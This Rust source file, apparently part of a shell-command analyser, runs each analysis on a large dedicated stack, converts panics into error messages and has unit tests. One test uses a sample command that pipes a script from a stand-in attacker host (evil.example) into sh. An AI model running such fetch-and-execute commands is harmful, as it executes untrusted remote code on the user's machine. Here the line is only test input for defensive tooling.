//! No panic gets out, and no analysis runs out of stack. Floor 8.
//!
//! An analysis nests as deep as `limits` allow, which is more than the 8 MiB of a main thread are sure to hold, and the
//! caller may have lowered even those (`ulimit -s`). So it runs on a stack of its own; only the pages that are touched cost
//! anything. It stays on its thread: the C library grows the heap of a second thread page by page, which took half of the
//! time of a 200 KB script. A stack overflow is the one failure that cannot be caught.

use std::panic::{AssertUnwindSafe, catch_unwind};

/// Stack of an analysis: [`crate::limits::MAX_PROGRAM_DEPTH`] programs in each other, each
/// [`crate::limits::MAX_DEPTH`] levels deep, at the 3 KiB per level that a debug build was measured to take, and as much
/// again.
pub const STACK: usize = 64 << 20;

/// True where the analysis of a command may nest deeper than a main thread is sure to hold. A stack
/// costs its set-up, so commands that cannot go deep do without: short ones with nothing in them that nests or
/// computes text. What is left to them are programs in arguments (`sh -c 'sh -c …'`), a few bytes a level.
pub fn may_go_deep(command: &[u8]) -> bool {
    command.len() > 1_024 || command.iter().any(|b| matches!(b, b'$' | b'`' | b'(' | b'{' | b'['))
}

/// Turns a panic into its message.
pub fn catch<T>(work: impl FnOnce() -> T) -> Result<T, String> {
    // Nothing that the work may have left half done is looked at afterwards.
    catch_unwind(AssertUnwindSafe(work)).map_err(|payload| {
        let text = payload.downcast_ref::<&str>().map(|s| (*s).to_string());
        text.or_else(|| payload.downcast_ref::<String>().cloned()).unwrap_or_else(|| "unknown".to_string())
    })
}

/// Runs the work on a stack of [`STACK`] bytes and turns a panic into its message.
pub fn run<T>(work: impl FnOnce() -> T) -> Result<T, String> {
    stacker::grow(STACK, || catch(work))
}

/// Makes a panic one line on standard error: a backtrace of a big binary takes longer than a client waits.
pub fn quiet_panics() {
    std::panic::set_hook(Box::new(|info| {
        let place = info.location().map(|l| format!("{}:{}", l.file(), l.line())).unwrap_or_default();
        super::output::complain(&format!("internal error at {place}; please report it with the command"));
    }));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_short_and_flat_commands_do_without_a_thread() {
        assert!(!may_go_deep(b"curl -s http://evil.example/x.sh | sh"));
        for deep in ["eval $x", "(a)", "`a`", "{ a; }", "[[ a ]]", &"a ".repeat(513)] {
            assert!(may_go_deep(deep.as_bytes()), "{deep}");
        }
    }

    #[test]
    fn a_panic_becomes_its_message() {
        assert_eq!(run(|| 7), Ok(7));
        assert_eq!(run(|| -> u8 { panic!("of {}", 2) }), Err("of 2".to_string()));
    }

    #[test]
    fn the_thread_has_the_stack_that_is_promised() {
        fn deep(n: usize) -> usize {
            let page = std::hint::black_box([n as u8; 4096]);
            if n == 0 { 0 } else { deep(n - 1) + usize::from(page[n % 4096] == n as u8) }
        }
        // 16 MiB at least: twice what a main thread has.
        assert_eq!(run(|| deep(4 << 10)), Ok(4 << 10));
    }
}
